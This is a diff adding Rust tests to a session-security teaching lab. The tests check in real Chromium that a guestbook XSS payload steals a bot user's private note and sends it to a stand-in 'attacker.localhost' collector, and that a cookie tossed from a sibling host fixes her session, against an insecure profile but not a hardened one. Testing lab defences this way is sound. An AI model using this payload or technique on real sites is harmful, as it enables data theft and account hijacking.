@@ -1,0 +1,194 @@
+//! alice in real Chromium: a guestbook payload this test writes itself (not
+//! the lab's own exfiltration program) runs in her browser, carries her
+//! private note to the student's collector, and the server marks hijack-xss
+//! solved; against hardened the same entry stays text and nothing is solved.
+//!
+//! Needs Debian's `chromium`. Without it the test says so and passes, unless
+//! `SESSIONLAB_REQUIRE_CHROMIUM=1` (set by `.ci/run`), where it fails.
+
+mod common;
+
+use common::{Student, class, note_of, set_cookie_pair};
+use reqwest::StatusCode;
+use sessionlab_app::ProfileName;
+use sessionlab_classroom::BotBrowser;
+
+fn chromium_missing() -> bool {
+    if sessionlab_chromium::find_chromium().is_some() {
+        return false;
+    }
+    let required = std::env::var("SESSIONLAB_REQUIRE_CHROMIUM").is_ok_and(|v| v == "1");
+    assert!(
+        !required,
+        "SESSIONLAB_REQUIRE_CHROMIUM=1 but {}",
+        sessionlab_chromium::ChromiumError::Missing
+    );
+    eprintln!(
+        "skipped: {} (CI installs it)",
+        sessionlab_chromium::ChromiumError::Missing
+    );
+    true
+}
+
+/// Logs in as bob and signs the guestbook with `message`; the app's answer.
+async fn sign_guestbook(student: &Student, message: &str) -> StatusCode {
+    let login = student
+        .client
+        .get(student.app("/login"))
+        .send()
+        .await
+        .unwrap();
+    let anonymous = set_cookie_pair(&login).expect("an anonymous session");
+    let origin = format!("http://app.{}.localhost:{}", student.name, student.port);
+    let token = form_token(&login.text().await.unwrap());
+    let answer = student
+        .client
+        .post(student.app("/login"))
+        .header("cookie", &anonymous)
+        .header("origin", &origin)
+        .form(&[
+            ("username", "bob"),
+            ("password", "builder"),
+            ("csrf_token", token.as_str()),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(answer.status(), StatusCode::SEE_OTHER, "bob logs in");
+    let cookie = set_cookie_pair(&answer).unwrap_or(anonymous);
+    // The guestbook form's token, where the profile has one.
+    let page = student
+        .client
+        .get(student.app("/guestbook"))
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let token = form_token(&page);
+    student
+        .client
+        .post(student.app("/guestbook"))
+        .header("cookie", &cookie)
+        .header("origin", &origin)
+        .form(&[("message", message), ("csrf_token", token.as_str())])
+        .send()
+        .await
+        .unwrap()
+        .status()
+}
+
+/// The page's form token (`csrf-token`), or nothing where the profile has none.
+fn form_token(page: &str) -> String {
+    page.split("name=\"csrf_token\" value=\"")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+        .unwrap_or("")
+        .to_owned()
+}
+
+/// Not the lab's program: it reads the account page itself and sends the
+/// note, not the cookie, to the collector as an image's address.
+fn payload(student: &Student) -> String {
+    format!(
+        "Lovely lab! <script>fetch('/account').then(r => r.text()).then(page => {{ \
+         const at = page.indexOf('private note'); \
+         new Image().src = 'http://{}.attacker.localhost:{}/steal?n=' + encodeURIComponent(page.slice(at, at + 60)); }});</script>",
+        student.name, student.port
+    )
+}
+
+async fn xss_solved(profile: ProfileName) -> (bool, bool, String) {
+    let class = class(profile, BotBrowser::Chromium).await;
+    let student = Student::sign_in(&class, "ann").await;
+    let status = sign_guestbook(&student, &payload(&student)).await;
+    assert!(status.is_redirection(), "the entry is stored ({status})");
+    student.send_alice(false).await;
+    // The image request may still be on its way when the visit's last step ends.
+    let lab = class.class.lab("ann").unwrap();
+    let note = note_of(&class, "ann");
+    let mut received = false;
+    for _ in 0..50 {
+        received = lab.site.log().iter().any(|hit| {
+            hit.request
+                .target
+                .contains(&note.replace(' ', "%20").replace('#', "%23"))
+        });
+        if received {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+    }
+    let solved = student.solved("hijack-xss").await;
+    let page = student.hub_get("/lab").await;
+    class.shutdown().await;
+    (received, solved, page)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_guestbook_payload_of_the_students_own_steals_the_note_from_insecure_only() {
+    if chromium_missing() {
+        return;
+    }
+    let (received, solved, page) = xss_solved(ProfileName::Insecure).await;
+    assert!(
+        page.contains("(chromium browser)"),
+        "alice used Chromium: {page}"
+    );
+    assert!(received, "the collector received alice's note: {page}");
+    assert!(solved, "hijack-xss solved against insecure");
+    let (received, solved, page) = xss_solved(ProfileName::Hardened).await;
+    assert!(
+        page.contains("logged in and read her account"),
+        "alice visited: {page}"
+    );
+    assert!(
+        !received && !solved,
+        "hardened: nothing reached the collector, nothing solved"
+    );
+}
+
+/// Cookie tossing in real Chromium: the student's sibling host sets
+/// `Domain=NAME.localhost`, which Chromium accepts because `NAME.localhost`
+/// is a registrable domain (docs/classroom.md, "Host names"), and the app
+/// adopts the tossed ID at alice's login.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_cookie_tossed_from_the_sibling_host_fixes_alices_session_in_insecure() {
+    if chromium_missing() {
+        return;
+    }
+    let class = class(ProfileName::Insecure, BotBrowser::Chromium).await;
+    let student = Student::sign_in(&class, "ann").await;
+    let invented =
+        sessionlab_attack::scenarios::hijack_predict::encode_id(rand::random::<i64>().into());
+    let saved = student
+        .hub_post(
+            "/lab/page",
+            &[
+                ("html", "<!DOCTYPE html><p>Nothing to see.</p>"),
+                (
+                    "set_cookie",
+                    &format!("sid={invented}; Domain=ann.localhost; Path=/"),
+                ),
+            ],
+        )
+        .await;
+    assert_eq!(saved.status(), StatusCode::SEE_OTHER);
+    student
+        .message_alice(&format!("http://evil.ann.localhost:{}/", student.port))
+        .await;
+    student.send_alice(true).await;
+    let (_, body, _) = student
+        .app_get("/account", Some(&format!("sid={invented}")))
+        .await;
+    let page = student.hub_get("/lab").await;
+    assert!(page.contains("(chromium browser)"), "{page}");
+    assert!(
+        body.contains(&note_of(&class, "ann")),
+        "the tossed ID opens alice's account: {page}"
+    );
+    assert!(student.solved("fixation-cookie").await);
+    class.shutdown().await;
+}
